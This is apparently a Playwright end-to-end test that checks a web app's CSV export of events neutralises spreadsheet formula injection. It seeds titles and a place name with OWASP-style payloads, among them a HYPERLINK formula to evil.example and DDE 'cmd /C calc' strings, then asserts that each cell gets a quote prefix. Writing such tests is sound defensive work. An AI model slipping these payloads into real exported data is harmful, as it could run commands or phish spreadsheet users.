import { readFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser } from 'playwright-core';
import Papa from 'papaparse';
import { seedBundle } from '../seedFixtures';
import { launchBrowser, watchErrors } from './browser';
import { startStaticServer } from './staticServer';
import { STRICT_CSP } from './csp';

const hasChromium = inject('chromium');

/** Titles a spreadsheet would run as formulas: one per first character OWASP names. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', '+1+2', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)'];

/** The seed bundle with formula titles, a formula place name and a place at a negative longitude. */
function hostileBundle() {
  const bundle = structuredClone(seedBundle().bundle);
  const placed = bundle.events.filter((e) => e.placeId);
  FORMULAS.forEach((f, i) => (placed[i]!.title = f));
  const place = bundle.places.find((p) => p.id === placed[0]!.placeId)!;
  place.name = '=cmd|"/c calc"!A1';
  place.lon = -71.5;
  return { bundle, hostile: placed.slice(0, FORMULAS.length), place };
}

describe.runIf(hasChromium)('the CSV export of a bundle with formula titles, in Chromium', () => {
  let browser: Browser;
  let server: Server;
  let url: string;
  const { bundle, hostile, place } = hostileBundle();
  beforeAll(async () => {
    browser = await launchBrowser();
    const overrides = new Map([['/data/bundle.json', { status: 200, body: JSON.stringify(bundle) }]]);
    ({ url, server } = await startStaticServer({ root: 'dist', overrides, headers: { 'content-security-policy': STRICT_CSP } }));
  });
  afterAll(async () => {
    await browser?.close();
    server?.close();
  });

  it('downloads a CSV whose formula cells open in a spreadsheet as text, with numbers left as numbers', async () => {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
    const page = await context.newPage();
    const errors = watchErrors(page);
    await page.goto(url);
    await page.getByRole('list', { name: 'Events' }).waitFor();
    await page.getByText('Export', { exact: true }).click();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Events as CSV' }).click()]);
    expect(download.suggestedFilename()).toMatch(/^dushanbe-events-\d{4}-\d{2}-\d{2}\.csv$/);
    const csv = readFileSync((await download.path())!, 'utf8');
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(bundle.events.length);
    const row = (id: string) => parsed.data.find((r) => r.id === id)!;
    // A leading quote mark is how Excel and LibreOffice are told that a cell is text, not a formula.
    hostile.forEach((e, i) => expect(row(e.id).title).toBe(`'${FORMULAS[i]}`));
    expect(row(hostile[0]!.id)).toMatchObject({ place: `'${place.name}`, lon: '-71.5', lat: String(place.lat) });
    for (const r of parsed.data) {
      for (const [column, cell] of Object.entries(r))
        if (column !== 'lat' && column !== 'lon') expect(cell, `${r.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(errors).toEqual([]);
    await context.close();
  });
});
